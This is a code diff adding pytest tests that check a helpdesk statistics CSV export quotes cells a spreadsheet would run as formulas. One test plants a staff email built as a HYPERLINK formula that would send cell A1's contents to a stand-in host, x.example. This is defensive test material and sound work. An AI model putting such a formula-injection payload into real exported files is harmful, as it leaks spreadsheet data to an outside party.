@@ -10,6 +10,8 @@ health h1 replied 6 h, resolved 30 h, due 48 h (met)
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from itertools import count
 from typing import Any
@@ -17,8 +19,9 @@ from typing import Any
 import pytest
 
 from core.context import Context
-from core.insights.stats import compute_stats, percentile, stats_csv
+from core.insights.stats import compute_stats, percentile, spreadsheet_text, stats_csv
 from core.models import Contact, RoutingCorrection, Status, Ticket, User
+from core.staff.accounts import valid_email
 
 T0 = datetime(2025, 3, 10, 8, 0, tzinfo=UTC)
 MARCH = (datetime(2025, 3, 1, tzinfo=UTC), datetime(2025, 4, 1, tzinfo=UTC))
@@ -176,6 +179,33 @@ def test_csv_has_a_row_per_group_and_a_total(march: Context) -> None:
         ["telegram", "4"],
         ["total", "5"],
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-"])
+def test_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_quoted(
+    march: Context, start: str
+) -> None:
+    """A staff email may begin with = + - (valid_email takes them), and the assignee
+    grouping prints it: opened in Excel or LibreOffice, `=HYPERLINK(...)` would run."""
+    email = f'{start}HYPERLINK("http://x.example/"&A1,"x")@mct.om'
+    assert valid_email(email)
+    with march.sessions() as session, session.begin():
+        user = session.query(User).filter_by(email="roads@mct.om").one()
+        user.email = email
+    rows = list(csv.reader(io.StringIO(stats_csv(figures(march, group_by="assignee")))))
+    assert rows[1][0] == "'" + email
+    assert rows[1][1] == "2"  # figures stay numbers
+
+
+@pytest.mark.parametrize("text", ["@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-2+3"])
+def test_spreadsheet_text_quotes_every_formula_start(text: str) -> None:
+    assert spreadsheet_text(text) == "'" + text
+
+
+def test_spreadsheet_text_leaves_codes_and_numbers_alone() -> None:
+    assert spreadsheet_text("road_damage") == "road_damage"
+    assert spreadsheet_text("بلدية") == "بلدية"
+    assert spreadsheet_text(-1.5) == -1.5
 
 
 def test_percentile_interpolates_between_ranks_like_percentile_cont() -> None:
